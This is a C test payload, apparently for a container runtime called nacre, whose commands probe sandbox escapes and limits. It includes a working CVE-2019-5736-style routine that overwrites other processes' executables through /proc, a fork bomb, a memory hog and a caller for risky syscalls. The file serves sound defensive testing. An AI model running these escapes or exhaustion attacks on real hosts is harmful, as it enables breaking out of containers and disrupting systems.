/* SPDX-License-Identifier: Apache-2.0 */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "tests/payload/payload.h"

static int verb_mount(int argc, char **argv)
{
	unsigned long flags = argc > 3 ? strtoul(argv[3], NULL, 0) : 0;

	return answer("mount", mount(argv[1], argv[2], argv[0], flags, NULL));
}

static int verb_umount(int argc, char **argv)
{
	(void)argc;
	return answer("umount", umount2(argv[0], MNT_DETACH));
}

static int verb_unshare(int argc, char **argv)
{
	static const struct {
		const char *name;
		int flag;
	} types[] = {{"user", CLONE_NEWUSER}, {"mount", CLONE_NEWNS}, {"net", CLONE_NEWNET},
		{"pid", CLONE_NEWPID}, {"uts", CLONE_NEWUTS}, {"ipc", CLONE_NEWIPC},
		{"cgroup", CLONE_NEWCGROUP}};

	(void)argc;
	for (size_t i = 0; i < sizeof(types) / sizeof(*types); i++)
		if (strcmp(argv[0], types[i].name) == 0)
			return answer("unshare", unshare(types[i].flag));
	errno = EINVAL;
	return answer("unshare", -1);
}

static int verb_socket(int argc, char **argv)
{
	int type = argc > 1 ? atoi(argv[1]) : SOCK_STREAM;
	int protocol = argc > 2 ? atoi(argv[2]) : 0;

	return answer("socket", socket(atoi(argv[0]), type, protocol));
}

/* bind PORT: a TCP socket on the loopback */
static int verb_bind(int argc, char **argv)
{
	struct sockaddr_in address = {.sin_family = AF_INET,
		.sin_port = htons((uint16_t)atoi(argv[0])),
		.sin_addr = {htonl(INADDR_LOOPBACK)}};

	(void)argc;
	return answer("bind", bind(socket(AF_INET, SOCK_STREAM, 0), (struct sockaddr *)&address,
				      sizeof(address)));
}

static int verb_setuid(int argc, char **argv)
{
	(void)argc;
	return answer("setuid",
		setresuid((uid_t)atoi(argv[0]), (uid_t)atoi(argv[0]), (uid_t)atoi(argv[0])));
}

static int verb_setrlimit(int argc, char **argv)
{
	struct rlimit limit = {strtoul(argv[1], NULL, 0), strtoul(argv[1], NULL, 0)};

	(void)argc;
	return answer("setrlimit", setrlimit((__rlimit_resource_t)atoi(argv[0]), &limit));
}

static int verb_hostname(int argc, char **argv)
{
	(void)argc;
	return answer("hostname", sethostname(argv[0], strlen(argv[0])));
}

/* call NUMBER [ARG...]: an argument is a number, or a string after "=". */
static int verb_call(int argc, char **argv)
{
	static const struct {
		const char *name;
		long number;
	} calls[] = {{"getcpu", SYS_getcpu}, {"mkdirat", SYS_mkdirat}, {"fchmodat", SYS_fchmodat},
		{"fchmod", SYS_fchmod}, {"openat", SYS_openat}, {"mknodat", SYS_mknodat},
		{"unshare", SYS_unshare}, {"setns", SYS_setns}, {"bpf", SYS_bpf},
		{"keyctl", SYS_keyctl}, {"ptrace", SYS_ptrace}, {"personality", SYS_personality},
		{"perf_event_open", SYS_perf_event_open}, {"userfaultfd", SYS_userfaultfd},
		{"io_uring_setup", SYS_io_uring_setup}, {"fsopen", SYS_fsopen},
		{"uname", SYS_uname}, {"getppid", SYS_getppid}, {"kexec_load", SYS_kexec_load},
		{"syslog", SYS_syslog}, {"open_by_handle_at", SYS_open_by_handle_at},
		{"getgid", SYS_getgid}, {"setsockopt", SYS_setsockopt}, {"ioctl", SYS_ioctl},
		{"sendto", SYS_sendto}, {"splice", SYS_splice}, {"vmsplice", SYS_vmsplice},
		{"tee", SYS_tee}, {"msgget", SYS_msgget}, {"add_key", SYS_add_key},
		{"mount", SYS_mount}, {"mq_open", SYS_mq_open}, {"clone3", SYS_clone3},
		{"memfd_create", SYS_memfd_create}, {"prctl", SYS_prctl},
		{"io_uring_enter", SYS_io_uring_enter}, {"fsmount", SYS_fsmount},
		{"io_uring_register", SYS_io_uring_register}, {"fsconfig", SYS_fsconfig},
		{"move_mount", SYS_move_mount}, {"open_tree", SYS_open_tree},
		{"mount_setattr", SYS_mount_setattr}, {"sendmsg", SYS_sendmsg},
		{"sendmmsg", SYS_sendmmsg}, {"msgsnd", SYS_msgsnd}};
	long values[6] = {0}, number = -1, result;
	char *end = NULL;

	for (size_t i = 0; i < sizeof(calls) / sizeof(*calls); i++)
		if (strcmp(argv[0], calls[i].name) == 0)
			number = calls[i].number;
	if (number < 0)
		number = strtol(argv[0], &end, 0);
	if (number < 0 || (end && *end)) {
		fprintf(stderr, "payload: unknown system call %s\n", argv[0]);
		return 2;
	}
	for (int i = 1; i < argc && i < 7; i++)
		values[i - 1] = argv[i][0] == '=' ? (long)(argv[i] + 1) : strtol(argv[i], NULL, 0);
	result = syscall(number, values[0], values[1], values[2], values[3], values[4], values[5]);
	return answer(argv[0], result);
}

static int verb_forkbomb(int argc, char **argv)
{
	int wanted = atoi(argv[0]), n = 0;
	pid_t *children = calloc((size_t)wanted, sizeof(*children));
	pid_t pid = 0;

	(void)argc;
	fflush(stdout);
	while (children && n < wanted && (pid = fork()) >= 0) {
		if (pid == 0) {
			pause();
			_exit(0);
		}
		children[n++] = pid;
	}
	printf("forkbomb: %d of %d: %s\n", n, wanted, pid < 0 ? strerrorname_np(errno) : "ok");
	for (int i = 0; i < n; i++)
		kill(children[i], SIGKILL);
	while (wait(NULL) > 0)
		;
	free(children);
	return 0;
}

static int verb_memhog(int argc, char **argv)
{
	const size_t piece = 1 << 20; /* a host may refuse to promise all at once */
	size_t size = strtoul(argv[0], NULL, 0);
	char *memory = NULL;

	(void)argc;
	for (size_t i = 0; i < size; i += 4096) {
		if (i % piece == 0)
			memory = malloc(piece);
		if (!memory)
			return answer("memhog", -1);
		((volatile char *)memory)[i % piece] = 1;
	}
	return answer("memhog", 0);
}

/* Tries to write to the program of the process NAME of /proc, if it is another than OWN. */
static void steal_from(const char *name, const struct stat *own, char result[64])
{
	struct stat other;
	char path[64];
	int held, fd = -1;

	snprintf(path, sizeof(path), "/proc/%.20s/exe", name);
	held = open(path, O_RDONLY | O_CLOEXEC);
	if (held < 0)
		return;
	if (fstat(held, &other) < 0 || other.st_ino == own->st_ino) {
		close(held);
		return;
	}
	snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
	for (int i = 0; i < 2000; i++) {
		fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd >= 0 || errno != ETXTBSY)
			break;
		usleep(500);
	}
	snprintf(result, 64, "%s", fd < 0 ? strerrorname_np(errno) : "opened");
	if (fd >= 0 && write(fd, "#!/payload\n", 11) == 11)
		snprintf(result, 64, "overwritten");
	close(fd);
	close(held);
}

/*
 * CVE-2019-5736 from inside: holds every program that is not its own by /proc/PID/exe and, once
 * nobody executes it any more, opens it for writing. Only processes that are there are looked at: a
 * program of nacre's may be there for microseconds.
 */
static int verb_steal(int argc, char **argv)
{
	char result[64] = "nothing seen";
	time_t end = time(NULL) + atoi(argv[0]);
	DIR *processes = opendir("/proc");
	struct dirent *entry;
	struct stat own;

	(void)argc;
	if (!processes || stat("/proc/self/exe", &own) < 0)
		return 1;
	for (; time(NULL) < end; rewinddir(processes))
		while ((entry = readdir(processes)))
			if (isdigit((unsigned char)entry->d_name[0]))
				steal_from(entry->d_name, &own, result);
	closedir(processes);
	printf("steal: %s\n", result);
	return 0;
}

/* Sends TEXT as sd_notify(3) does, with the file descriptor FD; -1: without one. */
static int notify(const char *text, int fd)
{
	const char *path = getenv("NOTIFY_SOCKET");
	struct sockaddr_un address = {.sun_family = AF_UNIX};
	int sock = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	union {
		struct cmsghdr header;
		char bytes[CMSG_SPACE(sizeof(int))];
	} control = {.header = {.cmsg_len = CMSG_LEN(sizeof(int)),
			     .cmsg_level = SOL_SOCKET,
			     .cmsg_type = SCM_RIGHTS}};
	struct iovec part = {(char *)text, strlen(text)};
	struct msghdr message = {.msg_name = &address,
		.msg_namelen = sizeof(address),
		.msg_iov = &part,
		.msg_iovlen = 1};

	if (!path)
		return answer("notify: NOTIFY_SOCKET", -1);
	snprintf(address.sun_path, sizeof(address.sun_path), "%s", path);
	if (fd >= 0) {
		memcpy(CMSG_DATA(&control.header), &fd, sizeof(fd));
		message.msg_control = &control;
		message.msg_controllen = sizeof(control);
	}
	return answer("notify", sendmsg(sock, &message, MSG_NOSIGNAL));
}

/* notify TEXT */
static int verb_notify(int argc, char **argv)
{
	(void)argc;
	return notify(argv[0], -1);
}

/* Returns a connection to this process that takes an hour to close: its peer reads nothing. */
static int slow_to_close(void)
{
	const struct linger hour = {.l_onoff = 1, .l_linger = 3600};
	struct sockaddr_in address = {
		.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	socklen_t size = sizeof(address);
	int listener = socket(AF_INET, SOCK_STREAM, 0), fd = socket(AF_INET, SOCK_STREAM, 0);
	char bytes[4096] = "";

	if (listen(listener, 1) < 0 ||
		getsockname(listener, (struct sockaddr *)&address, &size) < 0)
		return -1;
	address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (connect(fd, (struct sockaddr *)&address, size) < 0 ||
		setsockopt(fd, SOL_SOCKET, SO_LINGER, &hour, sizeof(hour)) < 0)
		return -1;
	while (send(fd, bytes, sizeof(bytes), MSG_DONTWAIT) > 0)
		continue;
	return fd;
}

/* notify_slowly TEXT: with a file descriptor whose last close takes an hour */
static int verb_notify_slowly(int argc, char **argv)
{
	int fd = slow_to_close(), r;

	(void)argc;
	if (fd < 0)
		return answer("notify_slowly", -1);
	r = notify(argv[0], fd);
	(void)close(fd);
	return r;
}

const struct verb try_verbs[] = {
	{"bind", 1, verb_bind},
	{"call", 1, verb_call},
	{"forkbomb", 1, verb_forkbomb},
	{"hostname", 1, verb_hostname},
	{"memhog", 1, verb_memhog},
	{"mount", 3, verb_mount},
	{"notify", 1, verb_notify},
	{"notify_slowly", 1, verb_notify_slowly},
	{"setrlimit", 2, verb_setrlimit},
	{"setuid", 1, verb_setuid},
	{"socket", 1, verb_socket},
	{"steal", 1, verb_steal},
	{"umount", 1, verb_umount},
	{"unshare", 1, verb_unshare},
	{NULL, 0, NULL},
};
